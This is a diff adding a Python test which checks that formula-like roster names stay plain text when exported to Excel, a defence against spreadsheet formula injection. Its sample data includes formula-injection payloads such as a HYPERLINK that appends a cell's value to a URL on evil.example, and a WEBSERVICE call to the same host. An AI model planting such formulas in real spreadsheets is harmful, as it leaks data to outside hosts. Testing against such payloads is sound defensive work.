@@ -257,3 +257,30 @@ async def test_numbers_typed_as_numbers_in_older_files_still_load(store: GraphSt
                                           context_value=Context(store, caller=OPERATOR))
     assert answer.errors is None
     assert answer.data == {"person": {"name": "张三", "phone": "13812345678"}}
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&B7,"查看")', "+1+1", "-2+3", "@SUM(A1)",
+            "=WEBSERVICE(\"http://evil.example\")")
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_export(tmp_path: Path) -> None:
+    """A roster name is anybody's text: in an export it must not become a live formula
+    (openpyxl stores a string beginning with `=` as one)."""
+    from loaders.report import LoadReport, RosterProblem, write_problems
+    from resolvers.workbook import ReportHeading, Sheets
+
+    sheets = Sheets(ReportHeading((None, "全部"), (None, "全部"), "tester",
+                                  dt.datetime(2026, 12, 1, 9, 0)), None)
+    sheets.add("缺口", "缺口", ["编码", "名称"], [[f"C{i}", text] for i, text in
+                                                  enumerate(FORMULAS)])
+    sheets.workbook.save(tmp_path / "audit.xlsx")
+    report = LoadReport("L1")
+    for text in FORMULAS:
+        report.problems.append(RosterProblem(file="小区.csv", key="required", row=2,
+                                             column="名称", value=text))
+    write_problems(report, tmp_path / "problems.xlsx")
+    for name in ("audit.xlsx", "problems.xlsx"):
+        cells = [c for row in load_workbook(tmp_path / name).active.iter_rows()
+                 for c in row if isinstance(c.value, str) and c.value in FORMULAS]
+        assert sorted(c.value for c in cells) == sorted(FORMULAS), name
+        assert {c.data_type for c in cells} == {"s"}, name
